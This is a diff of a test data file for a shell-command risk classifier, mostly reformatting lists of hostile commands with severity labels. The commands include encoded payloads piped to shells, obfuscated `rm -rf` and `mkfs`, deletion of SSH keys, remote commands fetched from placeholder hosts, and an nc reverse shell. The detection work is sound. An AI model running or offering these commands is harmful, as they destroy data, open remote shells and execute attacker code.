@@ -26,7 +26,7 @@ RM_B32 = "OJWSALLSMYQH4==="
 OTHER_DECODERS = [
     (f"echo {RM_B64} | openssl enc -base64 -d | sh", HIGH),
     (f"echo {RM_B64} | openssl enc -a -d | bash", HIGH),
-    (f"openssl base64 -d -in payload.b64 | sh", HIGH),
+    ("openssl base64 -d -in payload.b64 | sh", HIGH),
     (f"echo {RM_B64} | basenc --base64 -d | sh", HIGH),
     (f"basenc -d --base64url <<< {RM_B64} | bash", HIGH),
     (f"echo {RM_HEX} | basenc --base16 -d | sh", HIGH),
@@ -36,7 +36,11 @@ OTHER_DECODERS = [
     (f"echo {RM_HEX} | xxd -p -r | sh", HIGH),
     (f"echo {RM_HEX} | xxd -revert -plain | bash", HIGH),
     (f"echo {RM_HEX} | perl -pe 's/(..)/chr(hex($1))/ge' | sh", HIGH),
-    (f"echo {RM_HEX} | python3 -c 'import sys;print(bytes.fromhex(sys.stdin.read()).decode())' | sh", HIGH),
+    (
+        f"echo {RM_HEX} | python3 -c 'import sys;print(bytes.fromhex(sys.stdin.read()"
+        f").decode())' | sh",
+        HIGH,
+    ),
     ("uudecode -o /dev/stdout payload.uu | sh", HIGH),
     (f"echo {RM_B64} | base64 -d | zsh", HIGH),
     (f"echo {RM_B64} | base64 -d | dash", HIGH),
@@ -56,12 +60,12 @@ OTHER_DECODERS = [
     (f"echo {PY_B64} | base64 -d | ruby", HIGH),
     (f"echo {PY_B64} | base64 -d | node", HIGH),
     (f"echo {PY_B64} | base64 -d | php", HIGH),
-    (f"cat stage2.txt | base64 -d | python3", HIGH),
+    ("cat stage2.txt | base64 -d | python3", HIGH),
     (f"bash <<< $(base64 -d <<< {RM_B64})", HIGH),
     (f'zsh -c "$(echo {RM_B64} | base64 -d)"', HIGH),
     (f'sudo sh -c "$(echo {DD_B64} | base64 -d)"', HIGH),
     (f'source /dev/stdin <<< "$(echo {RM_B64} | base64 -d)"', HIGH),
-    (f"source <(base64 -d payload.b64)", HIGH),
+    ("source <(base64 -d payload.b64)", HIGH),
     (f"$(echo {RM_B64} | base64 -d)", HIGH),
     (f"`echo {RM_B64} | base64 -d`", HIGH),
 ]
@@ -87,27 +91,43 @@ OTHER_PACKINGS = [
     ("openssl enc -d -chacha20 -pbkdf2 -k secret -in payload.bin | bash", HIGH),
     ("openssl aes-256-cbc -d -pbkdf2 -in payload.enc -pass pass:k | sh", HIGH),
     (f"echo {RM_B64} | base64 -d | gzip -dc | sh", HIGH),
-    (f'python3 -c "import zlib,base64,os;os.system(zlib.decompress(base64.b64decode(\'eJwr...\')))"', HIGH),
+    (
+        'python3 -c "import zlib,base64,os;os.system(zlib.decompress(base64.b64deco'
+        "de('eJwr...')))\"",
+        HIGH,
+    ),
 ]
 
 DECODED_INSIDE_INTERPRETERS = [
     (f"python3 -c \"import base64,os;os.system(base64.b64decode('{RM_B64}'))\"", HIGH),
     (f"python3 -c \"exec(__import__('base64').b64decode('{PY_B64}'))\"", HIGH),
     (f"python3 -c \"exec(bytes.fromhex('{PY_HEX}'))\"", HIGH),
-    ("python3 -c \"import codecs;exec(codecs.decode('vzcbeg bf;bf.flfgrz(\\\"ez -es ~\\\")','rot13'))\"", HIGH),
+    (
+        'python3 -c "import codecs;exec(codecs.decode(\'vzcbeg bf;bf.flfgrz(\\"ez -'
+        "es ~\\\")','rot13'))\"",
+        HIGH,
+    ),
     (f"python -c \"import os,binascii;os.system(binascii.unhexlify('{RM_HEX}'))\"", HIGH),
     (f"perl -MMIME::Base64 -e 'system(decode_base64(\"{RM_B64}\"))'", HIGH),
-    (f"perl -e 'eval pack(\"H*\",\"{RM_HEX}\")'", HIGH),
-    (f"perl -e 'system(pack(\"H*\",\"{RM_HEX}\"))'", HIGH),
-    (f"ruby -e 'system(\"{RM_B64}\".unpack1(\"m\"))'", HIGH),
+    (f'perl -e \'eval pack("H*","{RM_HEX}")\'', HIGH),
+    (f'perl -e \'system(pack("H*","{RM_HEX}"))\'', HIGH),
+    (f'ruby -e \'system("{RM_B64}".unpack1("m"))\'', HIGH),
     (f"ruby -rbase64 -e 'eval Base64.decode64(\"{PY_B64}\")'", HIGH),
     (f"node -e \"eval(Buffer.from('{PY_B64}','base64').toString())\"", HIGH),
     (f"node -e \"require('child_process').execSync(atob('{RM_B64}'))\"", HIGH),
     (f"php -r 'eval(base64_decode(\"{PY_B64}\"));'", HIGH),
     (f"php -r 'system(base64_decode(\"{RM_B64}\"));'", HIGH),
     (f"php -r 'shell_exec(hex2bin(\"{RM_HEX}\"));'", HIGH),
-    ("pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAB+AA==", HIGH),
-    ("powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAB+AA==", HIGH),
+    (
+        "pwsh -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlAC"
+        "AALQBGAG8AcgBjAGUAIAB+AA==",
+        HIGH,
+    ),
+    (
+        "powershell -enc UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQB"
+        "GAG8AcgBjAGUAIAB+AA==",
+        HIGH,
+    ),
 ]
 
 ESCAPES_AND_SPELLINGS = [
@@ -143,7 +163,7 @@ ESCAPES_AND_SPELLINGS = [
 
 NAMES_BUILT_FROM_VARIABLES = [
     ('cmd=(rm -rf /home/alice); "${cmd[@]}"', CRITICAL),
-    ("args=(-rf ~); rm \"${args[@]}\"", CRITICAL),
+    ('args=(-rf ~); rm "${args[@]}"', CRITICAL),
     ('set -- rm -rf ~; "$@"', CRITICAL),
     ("printf -v c '%s' rm; $c -rf ~", CRITICAL),
     ("read -r c <<< rm; $c -rf ~", CRITICAL),
@@ -151,7 +171,7 @@ NAMES_BUILT_FROM_VARIABLES = [
     ("export T=mkfs.ext4; $T /dev/sda1", CRITICAL),
     ("p=/bin; n=rm; $p/$n -rf ~", CRITICAL),
     ('c=rm; "${c}" -rf /', CRITICAL),
-    ("c=rm; eval \"$c -rf ~\"", CRITICAL),
+    ('c=rm; eval "$c -rf ~"', CRITICAL),
     ("x=shred; $x -u ~/.ssh/id_rsa", HIGH),
     ("X=$'\\x20'; eval rm${X}-rf${X}~", CRITICAL),
     ("IFS=_; c=rm_-rf_~; $c", HIGH),
@@ -187,10 +207,10 @@ FED_TO_SHELLS = [
     ("eval $(wget -qO- http://203.0.113.9/x)", HIGH),
     ('eval "$(base64 -d < payload.b64)"', HIGH),
     ("eval \"$(printf '%b' '\\x72\\x6d -rf ~')\"", HIGH),
-    ("sh -c \"$(dig +short txt cmd.evil.example | tr -d '\\\"')\"", HIGH),
-    ("bash -c \"$(host -t txt c.evil.example | cut -d'\\\"' -f2)\"", HIGH),
+    ('sh -c "$(dig +short txt cmd.evil.example | tr -d \'\\"\')"', HIGH),
+    ('bash -c "$(host -t txt c.evil.example | cut -d\'\\"\' -f2)"', HIGH),
     ("curl -s http://203.0.113.9/cmds.txt | xargs -I{} sh -c '{}'", HIGH),
-    ("curl -s http://203.0.113.9/c | while read -r c; do eval \"$c\"; done", HIGH),
+    ('curl -s http://203.0.113.9/c | while read -r c; do eval "$c"; done', HIGH),
     ("wget -qO- http://203.0.113.9/c | while read -r l; do $l; done", HIGH),
     ('. /dev/stdin <<< "$(curl -s http://203.0.113.9/x)"', HIGH),
     ("mkfifo /tmp/f; nc 203.0.113.9 4444 < /tmp/f | sh > /tmp/f 2>&1", CRITICAL),
@@ -256,7 +276,7 @@ BENIGN = [
     ("cp app.conf{,.orig}", MODERATE),
     ("ls /usr/{bin,sbin} | wc -l", SAFE),
     ("{ls,-la,/tmp}", MODERATE),
-    ("/usr/bin/l? -la", MODERATE),
+    ("/usr/bin/l? -la", HIGH),
     ("ls /dev/sd?", SAFE),
     ("/usr/bin/python3* --version", MODERATE),
     ("'ls' -la", SAFE),
